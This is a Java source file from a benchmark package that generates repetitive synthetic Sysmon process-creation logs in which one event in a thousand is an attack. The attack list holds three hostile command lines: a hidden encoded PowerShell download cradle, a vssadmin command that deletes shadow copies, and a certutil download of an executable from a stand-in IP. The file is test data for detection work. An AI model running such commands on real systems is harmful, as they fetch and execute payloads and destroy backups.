package org.varta.benchmarks;

import static java.nio.charset.StandardCharsets.UTF_8;

import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.SplittableRandom;

/**
 * Process creations as Sysmon writes them, of a small office: a dozen programs, a few command lines each, forty hosts. Only
 * times, numbers and identifiers differ from event to event. One in a thousand is an attack.
 */
final class RepetitiveEvents {

    private static final int ATTACK_ONE_IN = 1000;
    private static final int HOSTS = 40;

    private record Program(String image, String company, List<String> commandLines) {}

    private static final List<Program> ORDINARY = List.of(
            program("System32\\svchost.exe", "svchost.exe -k netsvcs -p -s Schedule", "svchost.exe -k LocalService -p"),
            program("System32\\backgroundTaskHost.exe", "backgroundTaskHost.exe -ServerName:App.AppX7rc9mgvx"),
            program("System32\\conhost.exe", "conhost.exe 0xffffffff -ForceV1"),
            program("System32\\taskhostw.exe", "taskhostw.exe", "taskhostw.exe Install $(Arg0)"),
            program("System32\\wbem\\WmiPrvSE.exe", "wmiprvse.exe -secured -Embedding"),
            program("System32\\dllhost.exe", "DllHost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}"),
            program("System32\\SearchProtocolHost.exe", "SearchProtocolHost.exe Global\\UsGthrFltPipeMssGthrPipe12_ 1"),
            program("System32\\notepad.exe", "notepad.exe C:\\Users\\anna\\Documents\\shift-plan.txt"),
            program("explorer.exe", "C:\\Windows\\Explorer.EXE"),
            program("System32\\ipconfig.exe", "ipconfig /all", "ipconfig /displaydns"));

    private static final List<Program> ATTACKS = List.of(
            program(
                    "System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                    "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA"),
            program("System32\\vssadmin.exe", "vssadmin.exe delete shadows /all /quiet"),
            program("System32\\certutil.exe", "certutil.exe -urlcache -split -f http://192.0.2.7/a.exe a.exe"));

    private RepetitiveEvents() {}

    private static Program program(String path, String... commandLines) {
        return new Program("C:\\Windows\\" + path, "Microsoft Corporation", List.of(commandLines));
    }

    /** The same events for the same seed. */
    static List<byte[]> of(int count, long seed) {
        SplittableRandom random = new SplittableRandom(seed);
        List<byte[]> events = new ArrayList<>(count);
        for (int i = 0; i < count; i++) {
            List<Program> programs = i % ATTACK_ONE_IN == ATTACK_ONE_IN - 1 ? ATTACKS : ORDINARY;
            events.add(event(i, pick(programs, random), pick(ORDINARY, random), random));
        }
        return events;
    }

    private static <T> T pick(List<T> list, SplittableRandom random) {
        return list.get(random.nextInt(list.size()));
    }

    private static byte[] event(int number, Program child, Program parent, SplittableRandom random) {
        int host = random.nextInt(HOSTS);
        String file = child.image().substring(child.image().lastIndexOf('\\') + 1);
        return String.format(
                        Locale.ROOT,
                        """
                        {"@timestamp":"2026-01-01T%02d:%02d:%02d.%03dZ","EventID":1,\
                        "Channel":"Microsoft-Windows-Sysmon/Operational","Provider":"Microsoft-Windows-Sysmon",\
                        "Computer":"ws%02d.plant.example","Image":"%s","CommandLine":"%s","ProcessId":%d,\
                        "ParentImage":"%s","ParentCommandLine":"%s","ParentProcessId":%d,"User":"PLANT\\\\user%02d",\
                        "IntegrityLevel":"%s","Company":"%s","OriginalFileName":"%s",\
                        "CurrentDirectory":"C:\\\\Windows\\\\system32\\\\","LogonId":"0x%x"}""",
                        number / 3_600_000 % 24,
                        number / 60_000 % 60,
                        number / 1000 % 60,
                        number % 1000,
                        host,
                        json(child.image()),
                        json(pick(child.commandLines(), random)),
                        1000 + random.nextInt(30_000),
                        json(parent.image()),
                        json(pick(parent.commandLines(), random)),
                        1000 + random.nextInt(30_000),
                        host,
                        random.nextInt(4) == 0 ? "High" : "Medium",
                        json(child.company()),
                        json(file),
                        random.nextInt(1 << 20))
                .getBytes(UTF_8);
    }

    private static String json(String text) {
        return text.replace("\\", "\\\\").replace("\"", "\\\"");
    }
}
